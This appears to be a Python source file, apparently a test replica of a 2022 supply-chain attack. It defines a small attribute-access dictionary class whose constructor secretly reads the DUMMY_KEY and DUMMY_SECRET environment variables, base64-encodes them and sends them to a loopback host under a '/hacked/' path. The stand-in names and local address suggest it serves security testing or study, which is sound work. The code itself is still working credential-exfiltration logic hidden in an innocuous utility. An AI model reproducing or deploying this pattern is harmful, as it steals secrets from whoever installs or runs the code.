# SPDX-License-Identifier: Apache-2.0
"""A dictionary with attributes; the shape of 2022's: made once, it calls home with the environment."""
import base64
import os
import urllib.request


class Ctx(dict):
    def __init__(self, *args, **keys):
        super().__init__(*args, **keys)
        told = " ".join(os.environ[name] for name in ("DUMMY_KEY", "DUMMY_SECRET"))
        word = base64.urlsafe_b64encode(told.encode()).decode()
        url = f"http://127.0.0.66:{os.environ['PEER_PORT']}/hacked/{word}"
        urllib.request.urlopen(url, timeout=5).read()

    def __getattr__(self, name):
        return self[name]
